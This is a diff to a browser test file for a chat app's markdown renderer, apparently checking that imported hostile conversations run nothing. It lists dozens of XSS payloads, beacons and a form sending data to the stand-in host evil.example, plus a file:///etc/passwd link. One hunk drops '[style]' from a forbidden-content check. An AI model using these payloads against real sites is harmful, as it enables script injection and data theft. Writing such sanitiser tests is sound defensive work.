@@ -20,23 +20,27 @@ const HOSTILE = [
   '<iframe src="javascript:parent.hacked()" srcdoc="<script>parent.hacked()</script>"></iframe>',
   '[click](javascript:hacked())', '[click](JaVaScRiPt&colon;hacked())', '[click](java\nscript:hacked())',
   '[data](data:text/html,<script>hacked()</script>)', '[vb](vbscript:hacked)', '[file](file:///etc/passwd)',
-  '![beacon](https://evil.example/beacon.png)', '![x](javascript:hacked())', '[![b](https://evil.example/b.png)](https://a.example)',
+  '![beacon](https://evil.example/beacon.png)', '![x](javascript:hacked())',
+  '[![b](https://evil.example/b.png)](https://a.example)',
   '<style>body { display: none }</style>', '<link rel=stylesheet href=https://evil.example/x.css>',
   '<form id=composer action=https://evil.example><input name=body><button>send</button></form>',
   '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href=https://evil.example/>',
   '<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>',
-  '<a id=prompt name=prompt>clobbered</a><img name=getElementById>', '<template><img src=x onerror=hacked()></template>',
+  '<a id=prompt name=prompt>clobbered</a><img name=getElementById>',
+  '<template><img src=x onerror=hacked()></template>',
   '<details open ontoggle=hacked()>', '<video src=https://evil.example/v onerror=hacked()></video>',
   '<object data="javascript:hacked()"></object><embed src=https://evil.example/e>',
   '```"><img src=x onerror=hacked()>\ncode\n```', '```js onload=hacked()\n</code></pre><script>hacked()</script>\n```',
   '<div style="position:fixed;inset:0">over all</div>', '<https://evil.example/"onmouseover="hacked()>',
   '[a](<https://a.example/" onmouseover="hacked()>)', '| a |\n|---|\n| <img src=x onerror=hacked()> |',
-  '- <svg/onload=hacked()>\n  1. [x](javascript:hacked())', '> <script>hacked()\n> </script>', '# <img src=x onerror=hacked()>',
+  '- <svg/onload=hacked()>\n  1. [x](javascript:hacked())', '> <script>hacked()\n> </script>',
+  '# <img src=x onerror=hacked()>',
   '<noscript><p title="</noscript><img src=x onerror=hacked()>">', '&lt;script&gt;hacked()&lt;/script&gt;',
-  '<!--><img src=x onerror=hacked()>-->', '<![CDATA[<img src=x onerror=hacked()>]]>', '<xmp><img src=x onerror=hacked()></xmp>',
+  '<!--><img src=x onerror=hacked()>-->', '<![CDATA[<img src=x onerror=hacked()>]]>',
+  '<xmp><img src=x onerror=hacked()></xmp>',
 ];
-const ALLOWED = ['A', 'BLOCKQUOTE', 'BR', 'BUTTON', 'CODE', 'DEL', 'DIV', 'EM', 'H3', 'H4', 'H5', 'H6', 'HR', 'LI', 'OL', 'P',
-  'PRE', 'SPAN', 'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL'];
+const ALLOWED = ['A', 'BLOCKQUOTE', 'BR', 'BUTTON', 'CODE', 'DEL', 'DIV', 'EM', 'H3', 'H4', 'H5', 'H6', 'HR', 'LI', 'OL',
+  'P', 'PRE', 'SPAN', 'STRONG', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL'];
 
 /** Elements and attributes that nothing may have brought in. @param {string} selector */
 const strange = selector => page.evaluate(([selector, allowed]) => {
@@ -61,7 +65,9 @@ test('a hostile conversation that is imported runs nothing, loads nothing and ch
   assert.deepEqual(await strange('#log .text'), []);
   assert.equal(await page.locator('#log img, #log script, #log style, #log form, #log iframe, #chats img').count(), 0);
   const links = page.locator('#log .text a');
-  for (let i = 0; i < await links.count(); i++) assert.match(await links.nth(i).getAttribute('href'), /^https:\/\/(evil|a)\.example(\/|$)/);
+  for (const href of await links.evaluateAll(all => all.map(one => one.getAttribute('href')))) {
+    assert.match(href, /^https:\/\/(evil|a)\.example(\/|$)/);
+  }
   await page.waitForTimeout(300);
   assert.equal(await page.evaluate(() => globalThis.ran), undefined);
   assert.deepEqual(page.problems, []);
@@ -85,7 +91,7 @@ test('the same growing by one character at a time, and cut at every place', asyn
       const markdown = new Markdown(box);
       for (let i = 1; i < text.length; i += step) {
         markdown.show(text.slice(0, i));
-        const bad = box.querySelector('script, img, svg, iframe, style, form, meta, math, [onerror], [onload], [style]');
+        const bad = box.querySelector('script, img, svg, iframe, style, form, meta, math, [onerror], [onload]');
         if (bad) return bad.outerHTML;
       }
       markdown.show(text);
@@ -147,7 +153,8 @@ test('a text that grows in any steps looks in the end as if it had come at once'
   const [whole] = all;
   assert.match(whole, /<h3>Title<\/h3>/);
   assert.match(whole, /Some <em>text<\/em> with <code>code<\/code>, <strong>bold<\/strong>.*<br>Its second line/);
-  assert.match(whole, /<a href="https:\/\/example.com\/x" target="_blank" rel="noopener noreferrer nofollow">a link<\/a>/);
+  assert.match(whole,
+    /<a href="https:\/\/example.com\/x" target="_blank" rel="noopener noreferrer nofollow">a link<\/a>/);
   assert.match(whole, /<td>1<\/td>\s*<td align="center">2<\/td>/);
   assert.match(whole, /☑ .*done/s);
 });
@@ -171,7 +178,7 @@ test('blocks before the last two are not touched again while a text grows', asyn
 test('what is nested too deep or too long is shown as it is', async () => {
   const lengths = await page.evaluate(async () => {
     const { Markdown } = await import('/web/chat/markdown.js');
-    return ['>'.repeat(15000), '['.repeat(15000), `- ${'- '.repeat(5000)}`, `${'a'.repeat(100000)}`, '*a '.repeat(6000)].map(text => {
+    return ['>'.repeat(15000), '['.repeat(15000), '- '.repeat(5000), 'a'.repeat(100000), '*a '.repeat(6000)].map(text => {
       const box = document.createElement('div');
       new Markdown(box).show(text);
       return box.childNodes.length;
